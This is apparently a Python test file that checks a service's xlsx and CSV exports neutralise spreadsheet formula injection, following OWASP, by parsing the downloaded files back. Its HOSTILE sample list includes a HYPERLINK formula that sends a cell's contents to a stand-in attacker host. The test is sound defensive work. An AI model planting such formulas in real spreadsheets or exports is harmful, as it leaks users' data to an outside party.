"""Files the service writes are inert in a spreadsheet: whatever users wrote stays text — no
formula in an xlsx cell, and every CSV field that a spreadsheet would read as one is prefixed
(OWASP). Checked by parsing the files back."""

from __future__ import annotations

import csv
import io
import zipfile

import httpx
from openpyxl import load_workbook

from app.files.exports import FORMULA_START, XLSX
from tests.conftest import World
from tests.routers.test_proposals import propose

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
]  # (a leading tab or CR never gets stored: text is trimmed on input)


async def downloads(world: World) -> list[tuple[str, httpx.Response, httpx.Response]]:
    h = world.h["office"]
    for i, text in enumerate(HOSTILE):
        await propose(world, title=text)
        await world.task(title=f"Nhiệm vụ {i}", field=text)
    out = []
    for path, params in (
        ("/api/v1/proposals", {}),
        ("/api/v1/tasks", {}),
        ("/api/v1/reports/tasks", {"group_by": "field", "as_of": "2023-12-31"}),
    ):
        xlsx = await world.client.get(path, params=params, headers={**h, "Accept": XLSX})
        csv_ = await world.client.get(path, params=params, headers={**h, "Accept": "text/csv"})
        assert xlsx.status_code == csv_.status_code == 200, path
        out.append((path, xlsx, csv_))
    return out


async def test_no_cell_is_a_formula(world: World) -> None:
    for path, xlsx, _ in await downloads(world):
        with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and all(b"<f>" not in archive.read(n) for n in sheets), path
        book = load_workbook(io.BytesIO(xlsx.content))
        texts = [
            cell.value
            for row in book.active.iter_rows()
            for cell in row
            if cell.value is not None and cell.data_type != "n" and cell.data_type != "d"
        ]
        assert all(
            cell.data_type == "s"
            for row in book.active.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ), path
        for hostile in HOSTILE:
            assert hostile in texts, (path, hostile)  # kept as written, as text


async def test_no_csv_field_starts_like_a_formula(world: World) -> None:
    for path, _, csv_ in await downloads(world):
        rows = list(csv.reader(io.StringIO(csv_.content.decode("utf-8-sig"), newline="")))
        fields = [field for row in rows for field in row]
        assert not [f for f in fields if f.startswith(FORMULA_START)], path
        for hostile in HOSTILE:
            assert "'" + hostile in fields, (path, hostile)


def test_every_formula_start_is_prefixed() -> None:
    from app.files.exports import _csv_encode

    line = ["=1", "+1", "-1", "@x", "\tx", "\rx", "bình thường", 5, -5]
    parsed = next(csv.reader(io.StringIO(_csv_encode([line]).decode(), newline="")))
    assert parsed == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "bình thường", "5", "-5"]
